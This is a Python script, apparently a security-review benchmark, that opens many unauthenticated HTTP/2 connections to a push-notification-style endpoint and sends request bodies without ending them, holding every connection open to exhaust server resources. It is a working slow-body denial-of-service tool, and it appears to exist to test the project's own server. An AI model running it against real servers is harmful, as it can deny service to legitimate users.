"""The security review's first attack: clients without credentials open a stream on /3/device/...
on each of many connections and send request body bytes without ending the body, then hold
everything open. Prints one line when every connection has sent what the server let it send (or
was refused), then waits until stdin closes.

    python3 Benchmarks/attack_bodies.py HOST PORT CONNECTIONS BODY_BYTES
"""
import asyncio
import sys

import h2.config
import h2.connection
import h2.events


async def attack(host, port, body_bytes, totals):
    reader, writer = await asyncio.open_connection(host, port)
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    connection.initiate_connection()
    stream = connection.get_next_available_stream_id()
    connection.send_headers(stream, [
        (":method", "POST"), (":scheme", "http"), (":authority", host), (":path", "/3/device/" + "ab" * 32),
        ("apns-topic", "com.example.victim"), ("content-type", "application/json"),
    ])
    writer.write(connection.data_to_send())
    sent, refused = 0, False
    while sent < body_bytes and not refused:
        window = min(connection.local_flow_control_window(stream), connection.max_outbound_frame_size, body_bytes - sent)
        if window > 0:
            connection.send_data(stream, b"x" * window)
            sent += window
            writer.write(connection.data_to_send())
            await writer.drain()
            continue
        try:
            data = await asyncio.wait_for(reader.read(65536), timeout=5)
        except asyncio.TimeoutError:
            break  # the server stopped granting window: it holds what it has
        if not data:
            refused = True
            break
        for event in connection.receive_data(data):
            if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded, h2.events.ResponseReceived)):
                refused = True
        writer.write(connection.data_to_send())
    totals["sent"] += sent
    totals["refused"] += refused
    return writer


async def main():
    host, port, count, body_bytes = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
    totals = {"sent": 0, "refused": 0}
    writers = await asyncio.gather(*(attack(host, port, body_bytes, totals) for _ in range(count)), return_exceptions=True)
    failed = sum(isinstance(w, BaseException) for w in writers)
    print(f"connections {count} (failed to connect {failed}), body bytes sent {totals['sent']}, streams answered or reset {totals['refused']}", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)


asyncio.run(main())
